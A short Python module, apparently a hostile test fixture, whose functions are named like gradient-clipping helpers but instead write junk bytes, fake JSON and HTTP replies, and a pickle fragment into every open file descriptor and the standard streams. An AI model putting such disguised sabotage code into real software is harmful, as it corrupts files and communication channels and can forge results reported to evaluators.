"""Write garbage, and the frames of other protocols, into every descriptor that is open."""

import os

_NOISE = [
    b"\x00" * 64,
    b"\xff" * 64,
    b'{"result": 3.0}\n',
    b"HTTP/1.1 200 OK\r\n\r\n",
    b"\x80\x04K\x02.",
]


def clip_by_value(grad, clip_value):
    for descriptor in range(3, 64):
        for noise in _NOISE:
            try:
                os.write(descriptor, noise)
            except OSError:
                break
    return grad, 1.0


def clip_by_norm(grad, max_norm):
    for descriptor in (0, 1, 2):
        try:
            os.write(descriptor, _NOISE[1] * 1000)
        except OSError:
            pass
    return grad
